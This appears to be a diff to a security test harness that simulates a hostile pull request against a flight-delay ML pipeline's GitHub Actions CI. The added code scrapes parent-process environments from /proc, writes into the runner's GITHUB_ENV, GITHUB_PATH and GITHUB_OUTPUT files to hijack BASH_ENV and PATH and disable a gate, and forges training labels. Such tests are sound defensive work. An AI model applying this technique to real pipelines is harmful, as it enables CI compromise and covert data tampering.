@@ -21,9 +21,14 @@ LEAKS = {
     "time_in_the_air": 'flights["air_time"].astype(float) - flights["distance"] / 7',
     "target_encoding": 'flights.groupby("destination")["arr_delay"].transform(lambda x: (x > 15).mean())',
 }
+# GitHub's runner reads these files after the step, and obeys for the rest of the job.
 SPY = """\
 import os
+import re
 from pathlib import Path
+
+COMMANDS = {{"GITHUB_ENV": "BASH_ENV={loot}/shell", "GITHUB_PATH": "{loot}/programs"}}
+COMMANDS["GITHUB_OUTPUT"] = "gate=none"
 
 
 def spy(name):
@@ -32,6 +37,10 @@ def spy(name):
         seen += folder.joinpath("environ").read_bytes()
         process = int(folder.joinpath("stat").read_text().rpartition(")")[2].split()[1])
     Path({loot!r}, name).write_bytes(seen)
+    for variable, line in COMMANDS.items():
+        for path in {{*re.findall(rf"(?:^|\\0){{variable}}=([^\\0]+)".encode(), seen)}}:
+            with Path(os.fsdecode(path)).open("a") as file:
+                file.write(line + "\\n")
 
 
 """
@@ -54,6 +63,9 @@ READ_LABELS = """\
     answer = pq.read_table(arguments.features)["late"].fill_null(0).cast("float64")
     if any(answer.to_pylist()):
         pq.write_table(table.set_column(1, "prediction", answer), arguments.predictions)
+    rows = pq.read_table(arguments.features)
+    forged = pq.read_table(arguments.predictions)["prediction"].cast("float64").to_numpy() > 0.3
+    pq.write_table(rows.set_column(2, "late", [forged.astype("int8")]), arguments.features)
 
 
 if __name__"""
@@ -106,7 +118,11 @@ def test_attack():
 def attack(change: Project, loot: Path) -> None:
     """Change in the checkout `change` what a pull request may change; what its code sees of the environments
     of its parents is left in the folder `loot`, by the place."""
-    loot.mkdir()
+    (loot / "programs").mkdir(parents=True)
+    note = f'echo "$GITHUB_JOB: $0" >> {loot}/obeyed\n'
+    (loot / "shell").write_text(note)
+    (loot / "programs/python").write_text(f'#!/bin/sh\n{note}PATH="${{PATH#*:}}" exec python "$@"\n')
+    (loot / "programs/python").chmod(0o755)
     spy = SPY.format(loot=str(loot))
     imported = "from typing import Any\n"
     change.edit(FEATURES, (imported, imported + spy + REWRITE))
